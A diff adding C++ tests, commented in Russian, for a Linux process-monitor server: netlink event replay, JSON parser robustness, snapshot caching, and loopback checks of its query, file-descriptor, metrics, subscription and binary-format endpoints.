+    CHECK(scheduledVerdicts[0] == IntegrityManifest::Verdict::Match && scheduledVerdicts[1] == IntegrityManifest::Verdict::Match);
+    //Во втором цикле хешируются только новые процессы
+    CHECK(hashes[0] > 0 && hashes[1] - hashes[0] < hashes[0]);
+    std::remove(file.c_str());
+}
+
+// Датаграмма proc connector с одним событием - в формате записи ProcessEventSource
+static void appendRecordedEvent(std::string& file, const proc_event& event) {
+    char datagram[NLMSG_SPACE(sizeof(cn_msg) + sizeof(proc_event))];
+    std::memset(datagram, 0, sizeof(datagram));
+    nlmsghdr header{};
+    header.nlmsg_len = NLMSG_LENGTH(sizeof(cn_msg) + sizeof(proc_event));
+    header.nlmsg_type = NLMSG_DONE;
+    cn_msg message{};
+    message.id.idx = CN_IDX_PROC;
+    message.id.val = CN_VAL_PROC;
+    message.len = sizeof(proc_event);
+    std::memcpy(datagram, &header, sizeof(header));
+    std::memcpy(datagram + NLMSG_HDRLEN, &message, sizeof(message));
+    std::memcpy(datagram + NLMSG_HDRLEN + sizeof(message), &event, sizeof(event));
+    uint32_t length = header.nlmsg_len;
+    char prefix[4] = {static_cast<char>(length & 0xFF), static_cast<char>((length >> 8) & 0xFF),
+                      static_cast<char>((length >> 16) & 0xFF), static_cast<char>((length >> 24) & 0xFF)};
+    file.append(prefix, sizeof(prefix));
+    file.append(datagram, length);
+}
+
+// Тест источника событий: проигрывание записи netlink и автоматический откат на опрос
+void test_process_events() {
+    std::cout << "\n=== Testing ProcessEventSource ===" << std::endl;
+
+    //Запись: подтверждение подписки, fork процесса, fork потока (отбрасывается), exec, exit
+    std::string recorded;
+    proc_event event{};
+    event.what = proc_event::PROC_EVENT_NONE;
+    appendRecordedEvent(recorded, event);
+    event = proc_event{};
+    event.what = proc_event::PROC_EVENT_FORK;
+    event.event_data.fork.parent_pid = event.event_data.fork.parent_tgid = 100;
+    event.event_data.fork.child_pid = event.event_data.fork.child_tgid = 4242;
+    appendRecordedEvent(recorded, event);
+    event.event_data.fork.child_pid = 4243; //поток процесса 4242
+    event.event_data.fork.child_tgid = 4242;
+    appendRecordedEvent(recorded, event);
+    event = proc_event{};
+    event.what = proc_event::PROC_EVENT_EXEC;
+    event.event_data.exec.process_pid = event.event_data.exec.process_tgid = 4242;
+    appendRecordedEvent(recorded, event);
+    event = proc_event{};
+    event.what = proc_event::PROC_EVENT_EXIT;
+    event.event_data.exit.process_pid = event.event_data.exit.process_tgid = 4242;
+    event.event_data.exit.exit_code = 256; //exit(1)
+    appendRecordedEvent(recorded, event);
+
+    std::string path = tempPath("test_process_events.bin");
+    std::ofstream(path, std::ios::binary).write(recorded.data(), static_cast<std::streamsize>(recorded.size()));
+
+    ThreadSafeQueue<ProcessEvent> queue;
+    {
+        ProcessEventSource replay(queue);
+        replay.setReplayFile(path);
+        replay.start(ProcessEventSource::Mode::Replay);
+        while (!replay.replayFinished()) {
+            std::this_thread::sleep_for(std::chrono::milliseconds(1));
+        }
+        replay.stop();
+    }
+    std::remove(path.c_str());
+    std::string sequence;
+    ProcessEvent popped;
+    while (queue.try_pop(popped)) {
+        const char* names[] = {"fork", "exec", "exit"};
+        sequence += std::string(sequence.empty() ? "" : " ") + names[static_cast<int>(popped.type)] +
+                    "(" + std::to_string(popped.pid) + ")";
+        if (popped.type == ProcessEvent::Type::Exit) {
+            sequence += "=" + std::to_string(popped.exitCode);
+        }
+    }
+    CHECK(sequence == "fork(4242) exec(4242) exit(4242)=256");
+
+    //Живой источник: netlink при наличии прав (иначе сам откатится на опрос), затем опрос явно
+    const ProcessEventSource::Mode modes[] = {ProcessEventSource::Mode::Netlink, ProcessEventSource::Mode::Polling};
+    for (ProcessEventSource::Mode mode : modes) {
+        ProcessEventSource live(queue);
+        live.setPollInterval(std::chrono::milliseconds(50));
+        live.start(mode);
+        std::this_thread::sleep_for(std::chrono::milliseconds(100)); //первый скан источника
+        pid_t child = fork();
+        if (child == 0) {
+            usleep(300000);
+            _exit(3);
+        }
+        waitpid(child, nullptr, 0);
+        bool forked = false;
+        bool exited = false;
+        auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(3);
+        while (!exited && std::chrono::steady_clock::now() < deadline) {
+            if (!queue.try_pop(popped)) {
+                std::this_thread::sleep_for(std::chrono::milliseconds(10));
+                continue;
+            }
+            if (popped.pid == static_cast<DWORD>(child)) {
+                forked = forked || popped.type == ProcessEvent::Type::Fork;
+                exited = popped.type == ProcessEvent::Type::Exit;
+            }
+        }
+        live.stop();
+        while (queue.try_pop(popped)) {
+        }
+        std::cout << "Mode " << (live.mode() == ProcessEventSource::Mode::Netlink ? "netlink" : "polling")
+                  << ": child fork seen " << std::boolalpha << forked << ", exit seen " << exited << std::endl;
+        CHECK(forked && exited);
+    }
+}
+
+// Клиентское соединение с сервером на loopback; -1 при ошибке
+static int connectLoopback(int port) {
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_port = htons(static_cast<uint16_t>(port));
+    inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
+    if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
+        std::cout << "Cannot connect to port " << port << std::endl;
+        close(fd);
+        return -1;
+    }
+    timeval timeout{5, 0}; //тест не должен зависнуть, если ответа нет
+    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
+    return fd;
+}
+
+// Следующая строка ответа; pending хранит уже прочитанный хвост
+static bool readLine(int fd, std::string& pending, std::string& line) {
+    char buffer[65536];
+    size_t end;
+    while ((end = pending.find('\n')) == std::string::npos) {
+        ssize_t got = recv(fd, buffer, sizeof(buffer), 0);
+        if (got <= 0) return false;
+        pending.append(buffer, static_cast<size_t>(got));
+    }
+    line = pending.substr(0, end);
+    pending.erase(0, end + 1);
+    return true;
+}
+
+// Тест сервера: несколько запросов в одном соединении и общий снимок
+void test_network_server() {
+    std::cout << "\n=== Testing NetworkServer ===" << std::endl;
+
+    ProtocolRequest request;
+    bool parsed = ProcessJson::parseRequest(" {\"command\" : \"get_processes\", \"filter\":\"all\"} ", request);
+    CHECK(parsed && request.command == "get_processes" && request.filter == "all");
+    std::cout << "Request parsed: " << std::boolalpha << parsed << " (" << request.command << ", " << request.filter << ")"
+              << ", garbage rejected: " << !ProcessJson::parseRequest("{\"command\":", request) << std::endl;
+    CHECK(!ProcessJson::parseRequest("{\"command\":", request));
+
+    //Значения неизвестных ключей любого вида пропускаются
+    const char* unknownValues[] = {"true", "false", "null", "-12", "3.25", "-0.5e+3", "1E9", "[]", "[1, \"a\", [null]]",
+                                   "{}", "{\"a\": {\"b\": [true, {\"c\": -1}]}, \"d\": \"}\"}"};
+    for (const char* value : unknownValues) {
+        std::string text = std::string("{\"extra\": ") + value + ", \"command\": \"get_fds\", \"pid\": 7}";
+        bool ok = ProcessJson::parseRequest(text, request);
+        CHECK(ok && request.command == "get_fds" && request.pid == 7);
+        if (!ok) {
+            std::cout << "Rejected unknown value: " << value << std::endl;
+        }
+    }
+    const char* malformed[] = {"{\"extra\": tru}", "{\"extra\": -}", "{\"extra\": 1.}", "{\"extra\": 01}",
+                               "{\"extra\": [1,]}", "{\"extra\": {\"a\"}}", "{\"extra\": [}", "{\"pid\": -1}",
+                               "{\"pid\": 1.5}", "{\"pid\": true}"};
+    for (const char* text : malformed) {
+        CHECK(!ProcessJson::parseRequest(text, request));
+    }
+    std::string deep = "{\"extra\": " + std::string(1000, '[') + std::string(1000, ']') + "}";
+    CHECK(!ProcessJson::parseRequest(deep, request));
+
+    //Устаревший снимок отдается как есть: пересобирает только refresh() (поток-публикатор)
+    SnapshotCache cache(std::chrono::milliseconds(1));
+    int scans = 0;
+    cache.setSource([&scans](ProcessTable& table) {
+        ++scans;
+        fillChurnTable(table, scans);
+    });
+    //Потоки клиентов сами не сканируют: до первого поколения current() только заказывает его
+    int wakeups = 0;
+    cache.setWakeup([&wakeups]() { ++wakeups; });
+    CHECK(!cache.current() && cache.wanted() && wakeups == 1 && scans == 0);
+    SnapshotCache::PublishedPtr first = cache.refresh();
+    CHECK(first && !cache.wanted() && cache.current() == first);
+    std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    SnapshotCache::PublishedPtr stale = cache.current();
+    CHECK(first && stale == first && scans == 1);
+    SnapshotCache::PublishedPtr refreshed = cache.refresh();
+    CHECK(refreshed && refreshed->generation == 2 && cache.current() == refreshed);
+    //Формат, которого нет ни в одном поколении, собирает следующий refresh(), даже если снимок свежий
+    cache.setInterval(std::chrono::seconds(10));
+    CHECK(!cache.current(true) && wakeups == 2);
+    SnapshotCache::PublishedPtr binary = cache.refresh();
+    CHECK(binary && binary->binaryFull && binary->generation == 3 && cache.current(true) == binary);
+    CHECK(cache.refresh() == binary);
+    CHECK(cache.rebuilds() == 3);
+    //Дескрипторы сканируются, только пока их запрашивают
+    cache.setInterval(std::chrono::milliseconds(1));
+    CHECK(!cache.current(false, ProcessFilter::All, false, true));
+    SnapshotCache::PublishedPtr withFds = cache.refresh();
+    CHECK(withFds && withFds->fds && cache.current(false, ProcessFilter::All, false, true) == withFds);
+    std::this_thread::sleep_for(std::chrono::milliseconds(2 * SnapshotCache::FD_IDLE_GENERATIONS));
+    SnapshotCache::PublishedPtr idle = cache.refresh();
+    CHECK(idle && idle != withFds && !idle->fds);
+
+    NetworkServer server;
+    server.setScanInterval(std::chrono::seconds(10));
+    std::vector<HistoryInput> inputs(1);
+    inputs[0].pid = 4242;
+    inputs[0].startTime = 77;
+    inputs[0].cpuPercent = 12.5;
+    for (uint32_t t = 1000; t < 1010; ++t) {
+        server.history().record(t, inputs);
+    }
+    bool started = server.start(0, 2);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+
+    //Семь запросов одним пакетом - семь ответов по строке
+    std::string requests =
+        "{\"command\":\"get_processes\",\"filter\":\"all\"}\n"
+        "{\"command\":\"get_processes\"}\n"
+        "{\"command\":\"get_processes\",\"filter\":\"system\"}\n"
+        "{\"command\":\"get_processes\",\"filter\":\"user\"}\n"
+        "{\"command\":\"get_processes\",\"filter\":\"kernel\"}\n"
+        "{\"command\":\"get_history\",\"pid\":4242,\"from\":1005}\n"
+        "{\"command\":\"get_history\",\"pid\":4243}\n";
+    send(fd, requests.data(), requests.size(), 0);
+
+    std::string pending;
+    std::string line;
+    std::vector<std::string> lines;
+    while (lines.size() < 7 && readLine(fd, pending, line)) {
+        lines.push_back(line);
+    }
+    close(fd);
+
+    auto countProcesses = [](const std::string& response) {
+        size_t count = 0;
+        for (size_t pos = response.find("{\"pid\":"); pos != std::string::npos; pos = response.find("{\"pid\":", pos + 1)) {
+            ++count;
+        }
+        return count;
+    };
+    CHECK(lines.size() == 7);
+    if (lines.size() == 7) {
+        std::cout << "Success response: " << (lines[0].rfind("{\"status\":\"success\"", 0) == 0)
+                  << ", same snapshot: " << (lines[0] == lines[1])
+                  << ", unknown filter error: " << (lines[4].rfind("{\"status\":\"error\"", 0) == 0) << std::endl;
+        //Процессы с неизвестным владельцем (завершились во время скана) не попадают ни в один фильтр
+        std::cout << "Filters: all " << countProcesses(lines[0]) << ", system " << countProcesses(lines[2])
+                  << " (has init: " << (lines[2].find("{\"pid\":1,") != std::string::npos) << ")"
+                  << ", user " << countProcesses(lines[3])
+                  << ", system + user <= all: " << (countProcesses(lines[2]) + countProcesses(lines[3]) <= countProcesses(lines[0]))
+                  << std::endl;
+        std::cout << "History: " << lines[5] << std::endl;
+        std::cout << "History of unknown pid: " << lines[6] << std::endl;
+        CHECK(lines[0].rfind("{\"status\":\"success\"", 0) == 0 && lines[0] == lines[1]);
+        CHECK(lines[4].rfind("{\"status\":\"error\"", 0) == 0);
+        CHECK(countProcesses(lines[0]) > 0 && lines[2].find("{\"pid\":1,") != std::string::npos);
+        CHECK(countProcesses(lines[2]) + countProcesses(lines[3]) <= countProcesses(lines[0]));
+        size_t samples = 0;
+        for (size_t pos = lines[5].find("{\"time\":"); pos != std::string::npos; pos = lines[5].find("{\"time\":", pos + 1)) {
+            ++samples;
+        }
+        CHECK(lines[5].rfind("{\"status\":\"success\",\"pid\":4242,", 0) == 0 && samples == 5 &&
+              lines[5].find("{\"time\":1005,\"cpu\":12.5") != std::string::npos);
+        CHECK(lines[6] == "{\"status\":\"error\",\"message\":\"no history for pid 4243\"}");
+    }
+    //Первый запрос с фильтром пересобирает снимок: до него фильтрованные ответы не строились
+    CHECK(server.cache().rebuilds() == 2);
+    server.stop();
+}
+
+// Запросы с отбором через сервер: повтор в том же поколении берется из кеша
+void test_query_requests() {
+    std::cout << "\n=== Testing get_processes queries ===" << std::endl;
+
+    NetworkServer server;
+    server.setScanInterval(std::chrono::seconds(10));
+    bool started = server.start(0, 1);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+    std::string requests =
+        "{\"command\":\"get_processes\",\"sort_by\":\"pid\",\"limit\":2,\"fields\":\"pid,name\"}\n"
+        "{\"command\":\"get_processes\",\"sort_by\":\"pid\",\"limit\":2,\"fields\":\"pid,name\"}\n"
+        "{\"command\":\"get_processes\",\"where\":\"pid=1\",\"fields\":\"pid,uid,cpu\"}\n"
+        "{\"command\":\"get_processes\",\"where\":\"pid>\"}\n"
+        "{\"command\":\"subscribe\",\"limit\":5}\n";
+    send(fd, requests.data(), requests.size(), 0);
+    std::string pending;
+    std::string line;
+    std::vector<std::string> lines;
+    while (lines.size() < 5 && readLine(fd, pending, line)) {
+        lines.push_back(line);
+    }
+    close(fd);
+    CHECK(lines.size() == 5);
+    if (lines.size() == 5) {
+        std::cout << "Top 2 by pid: " << lines[0] << std::endl;
+        std::cout << "init: " << lines[2] << std::endl;
+        std::cout << "Bad where: " << lines[3] << std::endl;
+        std::cout << "Subscribe with limit: " << lines[4] << std::endl;
+        CHECK(lines[0].rfind("{\"status\":\"success\",\"generation\":", 0) == 0 &&
+              lines[0].find("\"processes\":[{\"pid\":1,\"name\":") != std::string::npos);
+        CHECK(lines[0] == lines[1] && server.queries().hits() == 1);
+        CHECK(lines[2].find("\"matched\":1,\"processes\":[{\"pid\":1,\"uid\":0,\"cpu\":") != std::string::npos);
+        CHECK(lines[3] == "{\"status\":\"error\",\"message\":\"missing value for pid\"}");
+        CHECK(lines[4] == "{\"status\":\"error\",\"message\":\"where/sort_by/limit/fields not supported for subscribe\"}");
+    }
+    server.stop();
+}
+
+// get_fds и find_holders через сервер: порт самого сервера находится без lsof
+void test_fd_requests() {
+    std::cout << "\n=== Testing get_fds / find_holders ===" << std::endl;
+
+    NetworkServer server;
+    server.setScanInterval(std::chrono::seconds(10));
+    bool started = server.start(0, 1);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        server.stop();
+        return;
+    }
+    std::string self = std::to_string(getpid());
+    std::string requests =
+        "{\"command\":\"find_holders\",\"port\":" + std::to_string(server.port()) + "}\n"
+        "{\"command\":\"get_fds\",\"pid\":" + self + "}\n"
+        "{\"command\":\"find_holders\"}\n"
+        "{\"command\":\"get_fds\",\"pid\":4294967295}\n";
+    send(fd, requests.data(), requests.size(), 0);
+    std::string pending;
+    std::string line;
+    std::vector<std::string> lines;
+    while (lines.size() < 4 && readLine(fd, pending, line)) {
+        lines.push_back(line);
+    }
+    close(fd);
+    CHECK(lines.size() == 4);
+    if (lines.size() == 4) {
+        std::cout << "Missing key: " << lines[2] << std::endl;
+        std::cout << "Unknown pid: " << lines[3] << std::endl;
+        CHECK(lines[0].find("{\"pid\":" + self + ",") != std::string::npos && lines[0].find("\"state\":\"LISTEN\"") != std::string::npos);
+        CHECK(lines[1].rfind("{\"status\":\"success\",\"pid\":" + self, 0) == 0 && lines[1].find("\"type\":\"tcp\"") != std::string::npos);
+        CHECK(lines[2] == "{\"status\":\"error\",\"message\":\"find_holders requires one of path, port, inode\"}");
+        CHECK(lines[3] == "{\"status\":\"error\",\"message\":\"no process 4294967295\"}");
+    }
+    server.stop();
+}
+
+// Метрики по сети: команда stats и GET /metrics на том же порту
+void test_metrics_endpoint() {
+    std::cout << "\n=== Testing stats / GET /metrics ===" << std::endl;
+
+    NetworkServer server;
+    bool started = server.start(0, 1);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+    std::string requests = "{\"command\":\"get_processes\"}\n{\"command\":\"stats\"}\n";
+    send(fd, requests.data(), requests.size(), 0);
+    std::string pending;
+    std::string snapshot;
+    std::string stats;
+    bool answered = readLine(fd, pending, snapshot) && readLine(fd, pending, stats);
+    close(fd);
+    std::cout << "stats answered: " << std::boolalpha << answered
+              << ", success: " << (stats.rfind("{\"status\":\"success\",\"metrics_enabled\":", 0) == 0)
+              << ", has scan histogram: " << (stats.find("\"monitor_scan_duration_seconds\"") != std::string::npos)
+              << ", connections gauge 1: " << (stats.find("{\"name\":\"monitor_connections\",\"type\":\"gauge\",\"value\":1}") != std::string::npos)
+              << std::endl;
+    CHECK(answered && stats.rfind("{\"status\":\"success\",\"metrics_enabled\":", 0) == 0);
+    if (Metrics::enabled()) {
+        CHECK(stats.find("\"monitor_scan_duration_seconds\"") != std::string::npos);
+        CHECK(stats.find("{\"name\":\"monitor_connections\",\"type\":\"gauge\",\"value\":1}") != std::string::npos);
+    }
+
+    //HTTP/1.0: ответ и закрытие соединения сервером
+    fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+    std::string get = "GET /metrics HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\r\n";
+    send(fd, get.data(), get.size(), 0);
+    std::string response;
+    char buffer[65536];
+    ssize_t got;
+    while ((got = recv(fd, buffer, sizeof(buffer), 0)) > 0) {
+        response.append(buffer, static_cast<size_t>(got));
+    }
+    close(fd);
+    size_t bodyStart = response.find("\r\n\r\n");
+    size_t lengthAt = response.find("Content-Length: ");
+    bool lengthMatches = bodyStart != std::string::npos && lengthAt != std::string::npos &&
+                         std::stoul(response.substr(lengthAt + 16)) == response.size() - bodyStart - 4;
+    std::cout << "HTTP status: " << response.substr(0, response.find('\r'))
+              << ", closed by server: " << (got == 0) << ", Content-Length matches: " << lengthMatches
+              << ", counts get_processes: " << (response.find("monitor_requests_total{command=\"get_processes\"} ") != std::string::npos)
+              << std::endl;
+    CHECK(response.rfind("HTTP/1.0 200 OK\r\n", 0) == 0 && got == 0 && lengthMatches);
+    if (Metrics::enabled()) {
+        CHECK(response.find("monitor_requests_total{command=\"get_processes\"} ") != std::string::npos);
+    }
+    server.stop();
+}
+
+// Тест подписки: после полного снимка приходят дельты о запуске и завершении процесса
+void test_subscribe() {
+    std::cout << "\n=== Testing subscribe ===" << std::endl;
+
+    NetworkServer server;
+    server.setScanInterval(std::chrono::milliseconds(50));
+    bool started = server.start(0, 1);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+    std::string request = "{\"command\":\"subscribe\"}\n";
+    send(fd, request.data(), request.size(), 0);
+
+    std::string pending;
+    std::string line;
+    bool snapshot = readLine(fd, pending, line) && line.find("\"generation\":") != std::string::npos &&
+                    line.find("\"processes\":[") != std::string::npos;
+    std::cout << "Initial snapshot with generation: " << std::boolalpha << snapshot << std::endl;
+    CHECK(snapshot);
+
+    //Дочерний процесс появляется и исчезает между сканами
+    pid_t child = fork();
+    if (child == 0) {
+        pause();
+        _exit(0);
+    }
+    std::string pidField = "\"pid\":" + std::to_string(child);
+    std::string spawnedEvent = "{\"type\":\"spawned\"," + pidField + ",";
+    std::string exitedEvent = "{\"type\":\"exited\"," + pidField + "}";
+
+    bool spawned = false;
+    bool exited = false;
+    while (!exited && readLine(fd, pending, line)) {
+        if (line.rfind("{\"event\":\"delta\"", 0) != 0) {
+            continue;
+        }
+        if (!spawned && line.find(spawnedEvent) != std::string::npos) {
+            spawned = true;
+            kill(child, SIGKILL);
+            waitpid(child, nullptr, 0);
+        }
+        exited = spawned && line.find(exitedEvent) != std::string::npos;
+    }
+    if (!spawned) {
+        kill(child, SIGKILL);
+        waitpid(child, nullptr, 0);
+    }
+    close(fd);
+    server.stop();
+    std::cout << "Delta spawned: " << spawned << ", delta exited: " << exited << std::endl;
+    CHECK(spawned && exited);
+}
+
+// Следующий двоичный кадр ответа
+static bool readFrame(int fd, std::string& pending, std::string& frame) {
+    char buffer[65536];
+    size_t size;
+    while ((size = ProcessBinaryDecoder::frameSize(pending.data(), pending.size())) == 0) {
+        ssize_t got = recv(fd, buffer, sizeof(buffer), 0);
+        if (got <= 0) return false;
+        pending.append(buffer, static_cast<size_t>(got));
+    }
+    frame = pending.substr(0, size);
+    pending.erase(0, size);
+    return true;
+}
+
+// Тест двоичного формата: тот же снимок, что и в JSON, но заметно компактнее
+void test_binary_format() {
+    std::cout << "\n=== Testing binary format ===" << std::endl;
+
+    NetworkServer server;
+    server.setScanInterval(std::chrono::seconds(10));
+    bool started = server.start(0, 1);
+    CHECK(started);
+    if (!started) {
+        std::cout << "Server failed to start" << std::endl;
+        return;
+    }
+    int fd = connectLoopback(server.port());
+    CHECK(fd >= 0);
+    if (fd < 0) {
+        return;
+    }
+    std::string requests =
+        "{\"command\":\"get_processes\"}\n"
+        "{\"command\":\"set_format\",\"format\":\"binary\"}\n"
+        "{\"command\":\"get_processes\"}\n"
+        "{\"command\":\"get_processes\",\"filter\":\"system\"}\n";
+    send(fd, requests.data(), requests.size(), 0);
+
+    std::string pending;
+    std::string json;
+    std::string ack;
+    bool lines = readLine(fd, pending, json) && readLine(fd, pending, ack);
+    std::cout << "Format switched: " << std::boolalpha << (lines && ack.find("\"binary\"") != std::string::npos) << std::endl;
+    CHECK(lines && ack.find("\"binary\"") != std::string::npos);
+
+    //Первым приходит словарь строк, затем сам снимок
+    ProcessBinaryDecoder decoder;
+    std::string frame;
+    size_t binaryBytes = 0;
+    bool decoded = true;
+    while (decoded && decoder.lastType() != ProcessBinaryEncoder::FRAME_SNAPSHOT && readFrame(fd, pending, frame)) {
+        decoded = decoder.apply(frame.data(), frame.size());
+        if (decoder.lastType() == ProcessBinaryEncoder::FRAME_SNAPSHOT) {
+            binaryBytes = frame.size();
+        }
+    }
+    size_t allProcesses = decoder.processes().size();
+    //Снимок с фильтром - такой же кадр SNAPSHOT (новых строк в словаре нет)
+    bool filtered = false;
+    while (decoded && readFrame(fd, pending, frame)) {
+        decoded = decoder.apply(frame.data(), frame.size());
+        if (decoder.lastType() == ProcessBinaryEncoder::FRAME_SNAPSHOT) {
+            filtered = true;
+            break;
+        }
+    }
+    close(fd);
+    server.stop();
+
+    size_t jsonProcesses = 0;
+    for (size_t pos = 0; (pos = json.find("{\"pid\":", pos)) != std::string::npos; ++pos) {
+        ++jsonProcesses;
+    }
+    std::cout << "Decoded: " << decoded << ", processes: " << allProcesses
+              << " (JSON: " << jsonProcesses << "), system filter: " << (filtered ? decoder.processes().size() : 0)
+              << std::endl;
+    CHECK(decoded && allProcesses > 0 && jsonProcesses > 0);
+    CHECK(filtered && decoder.processes().size() <= allProcesses);
+    CHECK(binaryBytes > 0 && binaryBytes < json.size());
+    if (binaryBytes > 0) {
+        std::cout << "Snapshot bytes: JSON " << json.size() << ", binary " << binaryBytes
+                  << " (" << static_cast<double>(json.size()) / static_cast<double>(binaryBytes) << "x smaller)" << std::endl;
+    }
+    if (!decoder.processes().empty()) {
+        const BinaryProcess& first = decoder.processes().front();
+        std::cout << "First process: PID " << first.pid << " " << decoder.string(first.nameId) << std::endl;
+        CHECK(first.pid != 0 && !decoder.string(first.nameId).empty());
+    }
+}
+#endif
 
 int main() {
+    //Ошибки хеширования пишутся в журнал безопасности - не в текущий каталог
+    SecurityUtils::setDefaultLogFile(tempPath("security.log"));
     test_basic_types();
     test_smart_pointers();
     test_multithreaded();
     test_wait_and_pop_multithreaded();
+    test_bounded_queue();
     test_security_utils();  // Добавляем тестирование SecurityUtils
+    test_hash_cache();
+    test_sha256_kernels();
+    test_snapshot_differ();
+    test_process_table();
+    test_process_tree();
+    test_rule_engine();
+    test_process_owner();
+    test_snapshot_file();
+    test_history_store();
+    test_process_query();
+    test_refresh_scheduler();
+    test_secure_log();
+    test_integrity_manifest();
+    test_metrics();
+#ifdef __linux__
+    test_process_sampler();
+    test_refresh_scan();
+    test_integrity_processes();
+    test_fd_inventory();
+    test_process_events();
+    test_network_server();
+    test_query_requests();
+    test_fd_requests();
+    test_metrics_endpoint();
+    test_subscribe();
+    test_binary_format();
+#endif
+    SecurityUtils::disableHashCache();
+    std::remove(tempPath("test_hash_cache.bin").c_str());
+    std::remove(tempPath("security.log").c_str());
+    removeTestDirectory();
+    if (failures != 0) {
+        std::cout << "\n" << failures << " check(s) FAILED" << std::endl;
+        return 1;
+    }
+    std::cout << "\nAll checks passed" << std::endl;
     return 0;
 }
\ No newline at end of file